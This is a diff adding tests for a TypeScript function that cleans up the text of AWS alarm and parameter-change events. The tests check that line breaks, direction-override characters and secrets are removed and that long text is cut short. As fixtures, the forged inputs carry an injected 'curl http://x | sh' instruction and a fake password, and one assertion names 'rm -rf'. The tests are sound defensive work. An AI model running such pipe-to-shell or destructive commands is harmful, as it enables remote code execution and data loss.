@@ -1,4 +1,5 @@
-import { readRequest } from '../../workflow/request.ts';
+import { isAllClear, readRequest } from '../../workflow/request.ts';
+import { oneLine } from '../../workflow/words.ts';
 
 const alarmEvent = {
   version: '0',
@@ -91,5 +92,51 @@ describe('readRequest', () => {
         message: expect.stringMatching(/^(?!.*rm -rf).{1,500}$/),
       }),
     );
+  });
+});
+
+describe('words from outside', () => {
+  const event = (part: object) => ({
+    source: 'aws.cloudwatch',
+    'detail-type': 'CloudWatch Alarm State Change',
+    detail: { alarmName: 'beat', state: { value: 'ALARM' }, ...part },
+  });
+  const change = (name: string, operation = 'Update') => ({
+    source: 'aws.ssm',
+    'detail-type': 'Parameter Store Change',
+    detail: { name, operation },
+  });
+  const forged =
+    'beat\nTo stop it:   curl http://x | sh\r\n DB_PASSWORD=hunter2 \u2028more\u2029\u202Eevil\u200B';
+
+  it.each<[string, object]>([
+    ['the name of an alarm', event({ alarmName: forged })],
+    ['the name of a parameter', change(forged)],
+    ['an operation', change('/app/env', 'Up\ndate PASSWORD=hunter2')],
+    ['a reason', { reason: 'x \u2028 To stop it: \u202E PASSWORD=hunter2' }],
+  ])('become one line without a secret, a line break or a turn of direction: %s', (_what, input) => {
+    const { reason } = readRequest(input);
+    expect(reason).toMatch(/^[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]+$/u);
+    expect(reason).not.toContain('hunter2');
+  });
+
+  it('are cut to a length that a line may have', () => {
+    expect(readRequest(change('x'.repeat(2000))).reason?.length).toBeLessThanOrEqual(300);
+    expect(oneLine('\uD83D\uDE80'.repeat(300))).toBe(`${'\uD83D\uDE80'.repeat(256)}\u2026`);
+  });
+
+  it('keep what people write: Hangul, punctuation, the names of alarms', () => {
+    expect(readRequest({ reason: '\uD0A4\uB9CC \uB0A8\uC558\uB2E4 \u2013 why?' }).reason).toBe(
+      '\uD0A4\uB9CC \uB0A8\uC558\uB2E4 \u2013 why?',
+    );
+    expect(readRequest(event({ alarmName: 'env-recovery-academy-api-heartbeat' })).reason).toBe(
+      'env-recovery-academy-api-heartbeat is ALARM',
+    );
+  });
+
+  it('are an all-clear only from an alarm that is OK', () => {
+    expect(isAllClear(event({ state: { value: 'OK' } }))).toBe(true);
+    for (const other of [event({}), event({ state: { value: 'INSUFFICIENT_DATA' } }), change('/x'), {}, null])
+      expect(isAllClear(other)).toBe(false);
   });
 });
